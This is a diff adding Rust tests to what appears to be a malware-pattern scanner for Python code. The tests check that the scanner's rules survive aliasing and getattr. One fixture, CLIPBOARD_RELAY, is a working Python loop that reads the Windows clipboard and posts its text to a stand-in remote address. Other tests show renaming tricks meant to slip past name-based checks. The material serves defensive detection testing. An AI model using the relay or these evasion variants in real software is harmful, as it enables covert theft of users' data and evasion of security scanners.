@@ -283,3 +283,71 @@ fn form_field_name_in_a_constant() {
     let a = run(&other);
     assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
 }
+
+const HEARTBEAT: &str = r#"import socket
+import time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+while True:
+    s.sendto(b"alive", ("127.0.0.1", 8125))
+    time.sleep(5)
+"#;
+
+/// A loop that waits under another name (`pause = time.sleep`) is still a
+/// loop that waits: a heartbeat, not a flood.
+#[test]
+fn waiting_under_another_name() {
+    let (plain, v) = rule_set(HEARTBEAT);
+    let aliased = HEARTBEAT
+        .replace("import time\n", "import time\npause = time.sleep\n")
+        .replace("time.sleep(5)", "pause(5)");
+    let (got, w) = rule_set(&aliased);
+    assert_eq!((plain, v), (got, w));
+    assert!(w < Verdict::High);
+    // Control: an alias of a call that does not wait leaves the flood.
+    let busy = HEARTBEAT
+        .replace("import time\n", "import time\nstamp = time.time\n")
+        .replace("time.sleep(5)", "stamp()");
+    assert!(rules(&run(&busy)).contains(&"MB927"));
+}
+
+const CLIPBOARD_RELAY: &str = r#"import time
+import requests
+import win32clipboard
+while True:
+    win32clipboard.OpenClipboard()
+    text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)
+    win32clipboard.CloseClipboard()
+    requests.post("https://203.0.113.7/c", json={"t": text}, timeout=5)
+    time.sleep(2)
+"#;
+
+/// A module function called under an alias or through `getattr` is read
+/// as its plain spelling (`module.function(...)`) by the checks that look
+/// at the function's name.
+#[test]
+fn function_name_under_another_name() {
+    let aliased = CLIPBOARD_RELAY
+        .replace(
+            "import win32clipboard\n",
+            "import win32clipboard\ngrab = win32clipboard.GetClipboardData\n",
+        )
+        .replace("win32clipboard.GetClipboardData(", "grab(");
+    assert_same(CLIPBOARD_RELAY, &aliased);
+    let by_getattr = CLIPBOARD_RELAY.replace(
+        "win32clipboard.GetClipboardData(",
+        "getattr(win32clipboard, 'GetClipboardData')(",
+    );
+    assert_same(CLIPBOARD_RELAY, &by_getattr);
+    // Control: the clipboard written, not read, under an alias.
+    let writes = CLIPBOARD_RELAY
+        .replace(
+            "import win32clipboard\n",
+            "import win32clipboard\nput = win32clipboard.SetClipboardText\n",
+        )
+        .replace(
+            "text = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)",
+            "put('hello')\n    text = 'x'",
+        );
+    let a = run(&writes);
+    assert!(!rules(&a).contains(&"MB216"), "{:?}", a.findings);
+}
